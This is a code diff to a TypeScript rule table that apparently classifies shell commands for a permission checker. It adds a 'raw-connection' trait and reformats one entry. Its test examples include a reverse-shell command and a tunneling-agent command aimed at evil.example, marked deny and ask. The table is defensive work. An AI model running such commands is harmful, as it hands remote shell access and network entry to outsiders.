@@ -81,7 +81,7 @@ export const programs: readonly ProgramSpec[] = [
         why: 'Gives a program on this machine to whoever is on the other end.',
       },
     ],
-    traits: ['sends', 'network'],
+    traits: ['sends', 'raw-connection', 'network'],
     examples: [
       { command: "socket -qvp '/bin/sh -i' evil.example 4444", expect: 'deny' },
       { command: 'socket localhost 8080', expect: 'pass' },
@@ -175,7 +175,12 @@ export const programs: readonly ProgramSpec[] = [
         flags: '-accept-fingerprint -ignore-cert -selfcert',
         why: 'Carries connections of another machine into this network.',
       },
-      { ...OPENS, when: '$', flags: '-connect=', why: 'Carries connections of another machine into this network.' },
+      {
+        ...OPENS,
+        when: '$',
+        flags: '-connect=',
+        why: 'Carries connections of another machine into this network.',
+      },
     ],
     examples: [
       { command: './agent -connect evil.example:11601 -accept-fingerprint 9A3F1C', expect: 'ask' },
